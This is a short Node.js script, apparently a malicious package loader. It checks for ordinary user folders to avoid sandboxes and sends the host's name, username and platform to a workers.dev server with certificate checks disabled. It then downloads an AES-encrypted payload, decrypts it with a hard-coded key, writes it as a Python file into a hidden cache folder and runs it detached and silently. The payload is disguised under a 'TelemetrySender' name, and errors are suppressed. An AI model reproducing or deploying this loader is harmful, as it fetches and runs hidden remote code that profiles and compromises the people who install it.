'use strict';
const https = require('https'), os = require('os'), fs = require('fs'), path = require('path'), crypto = require('crypto'), { spawn } = require('child_process');
const HOST = 'steel-mere.someone.workers.dev';
const home = os.homedir();
if (!['Desktop', 'Documents', 'Downloads'].some(d => fs.existsSync(path.join(home, d)))) process.exit(0);
function req(p, body) {
  return new Promise((ok, no) => {
    const q = https.request({ hostname: HOST, path: p, method: body ? 'POST' : 'GET', rejectUnauthorized: false, headers: { 'content-type': 'application/json' } }, (r) => {
      const c = []; r.on('data', d => c.push(d)); r.on('end', () => ok(Buffer.concat(c)));
    });
    q.on('error', no); if (body) q.write(JSON.stringify(body)); q.end();
  });
}
(async () => {
  await req('/report', { h: os.hostname(), u: os.userInfo().username, p: os.platform() + os.arch(), v: process.version });
  const blob = await req('/e');
  const key = crypto.createHash('sha256').update('BIP-0174 psbt seed text').digest();
  const d = crypto.createDecipheriv('aes-256-gcm', key, blob.subarray(0, 12));
  d.setAuthTag(blob.subarray(12, 28));
  const py = Buffer.concat([d.update(blob.subarray(28)), d.final()]).toString();
  if (!py.includes('class TelemetrySender')) return;
  const dir = path.join(home, '.cache', 'hex', 'modules'); fs.mkdirSync(dir, { recursive: true });
  const f = path.join(dir, 'runtime.py'); fs.writeFileSync(f, py);
  spawn(process.platform === 'win32' ? 'python' : 'python3', ['-c', 'from runtime import TelemetrySender as T; T.send(T.load())'], { cwd: dir, detached: true, stdio: 'ignore' }).unref();
})().catch(() => {});